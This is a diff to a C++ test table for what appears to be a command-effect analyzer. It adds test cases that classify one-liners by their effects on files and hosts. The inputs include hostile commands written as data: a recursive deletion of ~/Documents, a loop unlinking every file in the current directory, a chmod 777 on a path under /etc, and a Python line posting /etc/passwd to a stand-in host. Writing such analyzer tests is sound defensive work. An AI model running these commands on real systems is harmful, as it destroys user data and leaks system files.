@@ -66,8 +66,14 @@ rm | x | remove:/home/user/project/x | via python | fact operand
     {R"~(python3 -c "import os; os.chmod('/etc/x', 0o777)")~",
      R"~(python3 -c=import os; os.chmod('/etc/x', 0o777) | change:/etc/x | code python,os.chmod
 )~"},
+    {R"~(python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~/Documents'))")~",
+     R"~(python3 -c=import shutil,os; shutil.rmtree(os.path.expanduser('~/Documents')) | remove:/home/user/Documents:r | code python,os.path.expanduser,shutil.rmtree
+)~"},
+    {R"~(node -e "require('fs').writeFileSync(process.env.HOME + '/.x', '')")~",
+     R"~(node -e=require('fs').writeFileSync(process.env.HOME + '/.x', '') | write:/home/user/.x | code javascript,fs.writeFileSync,require
+)~"},
     {R"~(python3 -c "import os; [os.unlink(f) for f in os.listdir('.')]")~",
-     R"~(python3 -c=import os; [os.unlink(f) for f in os.listdir('.')] | list:/home/user/project | code python,os.listdir,os.unlink
+     R"~(python3 -c=import os; [os.unlink(f) for f in os.listdir('.')] | remove:/home/user/project/… list:/home/user/project | code python,os.listdir,os.unlink
 )~"},
     {R"~(python3 -c "import requests; requests.post('https://a.example', data=open('/etc/passwd').read())")~",
      R"~(python3 -c=import requests; requests.post('https://a.example', data=open('/etc/passwd').read()) | read:/etc/passwd:sent | host https://a.example:sends | code python,open,read,requests.post
